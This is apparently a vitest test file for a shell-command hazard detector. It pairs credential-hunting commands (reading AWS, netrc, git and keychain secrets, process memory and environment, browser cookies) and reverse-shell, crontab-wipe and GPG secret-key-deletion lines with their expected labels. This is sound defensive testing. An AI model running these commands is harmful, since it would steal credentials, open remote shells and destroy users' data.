import { describe, expect, it } from 'vitest';
import { extractCredentialHunt } from '../../src/extract/credential-hunt.js';
import { extractRemoteShell } from '../../src/extract/shell-remote.js';
import type { Fact } from '../../src/engine/types.js';
import { analyzeContext, command } from '../helpers/command.js';

const ctx = analyzeContext('/home/u/proj');
const hazards = (ex: typeof extractCredentialHunt, line: string) => {
  const c = command(line.split(' '), { cwd: '/home/u/proj' });
  return (ex(c, ctx, [c]) as Fact[]).map((f) =>
    f.kind === 'shell' ? `${f.hazard} ${f.source}`.trim() : f.kind,
  );
};

describe('credential hunting outside the workspace', () => {
  it.each<[string, string[]]>([
    ['cat /home/u/.aws/credentials', ['credential-read /home/u/.aws/credentials']],
    ['cat ~/.netrc', ['credential-read ~/.netrc']],
    ['cp ~/.git-credentials /tmp/x', ['credential-read ~/.git-credentials']],
    ['grep -ri token ~/.config/railway', ['credential-read ~/.config/railway']],
    ['grep -rn API_KEY ~', ['credential-read ~']],
    ['find ~ -name *.pem', ['credential-read ~']],
    ['security find-generic-password -s gh -w', ['credential-read keychain find-generic-password']],
    ['security dump-keychain -d login.keychain', ['credential-read keychain dump-keychain -d']],
    ['aws configure get aws_secret_access_key', ['credential-read aws configure get aws_secret_access_key']],
    // where tools keep logins, searched by a pattern; another process's environment; browser stores
    ['grep -r token ~/.config/', ['credential-read ~/.config/']],
    ['rg -uu api[_-]?key /home/u', ['credential-read /home/u']],
    ['grep -r password /etc', ['credential-read /etc']],
    ['cat /proc/1/environ', ['credential-read /proc/1/environ']],
    [
      'sqlite3 ~/.mozilla/firefox/ab12.default/cookies.sqlite .dump',
      ['credential-read ~/.mozilla/firefox/ab12.default/cookies.sqlite'],
    ],
    ['dd if=/proc/4242/mem of=/tmp/m bs=1M', ['credential-read if=/proc/4242/mem']],
    ['cat /proc/$AGENT_PID/mem', ['credential-read /proc/$AGENT_PID/mem']],
    ['cat /proc/self/environ', []],
    ['cat /proc/4242/maps', []],
    ['ls /proc/4242/mem', []],
    ['grep -r listen /etc/nginx', []],
    ['sqlite3 ~/.local/share/app/cache.db .tables', []],
    // not hunting: workspace files, listings, public keys, other settings, searches elsewhere
    ['cat .env', []],
    ['cat /home/u/proj/.aws/credentials', []],
    ['ls ~/.ssh', []],
    ['cat ~/.ssh/id_ed25519.pub', []],
    ['aws configure get region', []],
    ['grep -rn TODO ~', []],
    ['grep -rn API_KEY src', []],
    // grep's -d recurse searches as -r does, in each spelling
    ['grep -d recurse -i password ~', ['credential-read ~']],
    ['grep --directories=recurse token ~/.config', ['credential-read ~/.config']],
    ['grep --directories recurse api_key /etc', ['credential-read /etc']],
    ['grep -id recurse secret /home/u', ['credential-read /home/u']],
    ['grep -d skip password ~', []],
    ['grep -d recurse TODO ~', []],
    ['grep --directories=recurse token src', []],
  ])('%s → %o', (line, want) => expect(hazards(extractCredentialHunt, line)).toEqual(want));
});

describe('remote shells, crontab removal and private-key deletion', () => {
  it.each<[string, string[]]>([
    ['nc -e /bin/sh 198.51.100.7 9001', ['remote-shell 198.51.100.7']],
    ['nc -lvpe /bin/sh 4444', ['remote-shell']],
    ['ncat --exec /bin/bash 203.0.113.5 4444', ['remote-shell 203.0.113.5']],
    ['socat TCP:203.0.113.5:4444 EXEC:/bin/sh', ['remote-shell 203.0.113.5']],
    ['crontab -r', ['crontab-remove']],
    ['crontab /dev/null', ['crontab-remove']],
    ['nc -zv db 5432', []],
    ['socat TCP-LISTEN:8080,fork TCP:127.0.0.1:3000', []],
    ['crontab -l', []],
    ['gpg --batch --yes --delete-secret-keys ABCDEF01', ['secret-key-delete']],
    ['gpg2 --delete-secret-and-public-keys 0xABCDEF01', ['secret-key-delete']],
    ['gpg --delete-keys ABCDEF01', []],
    ['gpg --list-secret-keys', []],
  ])('%s → %o', (line, want) => expect(hazards(extractRemoteShell, line)).toEqual(want));
});
